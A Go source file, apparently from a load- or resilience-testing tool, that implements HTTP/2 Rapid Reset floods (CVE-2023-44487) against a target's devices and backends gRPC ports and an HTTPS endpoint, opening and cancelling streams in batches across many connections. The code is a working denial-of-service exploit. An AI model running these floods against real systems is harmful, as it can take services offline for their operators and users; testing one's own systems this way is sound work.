package main

import (
	"context"
	"crypto/tls"
	"fmt"

	"golang.org/x/net/http2"
)

// resets open calls and reset them at once, without credentials (CVE-2023-44487).
var resets = []attack{
	{name: "reset-8-devices", much: true, what: "8 connections open and reset calls on the devices' gRPC port", flood: resetFlood(8, 8, onDevices)},
	{name: "reset-40-devices", what: "40 connections open and reset calls on the devices' gRPC port", flood: resetFlood(40, 16, onDevices)},
	{name: "reset-8-backends", much: true, what: "8 connections open and reset calls on the backends' gRPC port", flood: resetFlood(8, 8, onBackends)},
	{name: "reset-40-backends", what: "40 connections open and reset calls on the backends' gRPC port", flood: resetFlood(40, 16, onBackends)},
	{name: "reset-tls", what: "40 connections open and reset requests on the devices' HTTPS port", tls: true, flood: resetFlood(40, 16, onHTTPS)},
}

// place is where calls go: an address, a method, and TLS where there is any.
type place func(t *target) (addr, method string, secure *tls.Config)

func onDevices(t *target) (string, string, *tls.Config) { return t.DevicesGRPC, methodStream, nil }

func onBackends(t *target) (string, string, *tls.Config) {
	return t.BackendsGRPC, methodPublishStream, nil
}

func onHTTPS(t *target) (string, string, *tls.Config) {
	return t.Devices, "/ramen/receive", t.tls("h2")
}

// atOnce is how many calls go out in one write.
const atOnce = 100

func resetFlood(long, short int, at place) func(ctx context.Context, t *target) {
	return func(ctx context.Context, t *target) {
		t.each(ctx, t.n(long, short), func(ctx context.Context, _ int) error {
			addr, method, secure := at(t)
			h, err := dialH2(ctx, t, addr, secure, false)
			if err != nil {
				return err
			}
			defer h.close()
			for {
				if err := h.write(func() error { return openAndReset(h, method) }); err != nil {
					return fmt.Errorf("open and reset: %w", err)
				}
				t.count("calls", atOnce)
			}
		})
	}
}

func openAndReset(h *h2, method string) error {
	for range atOnce {
		id, err := h.openLocked(method, "")
		if err != nil {
			return err
		}
		if err := h.framer.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			return err
		}
	}
	return nil
}
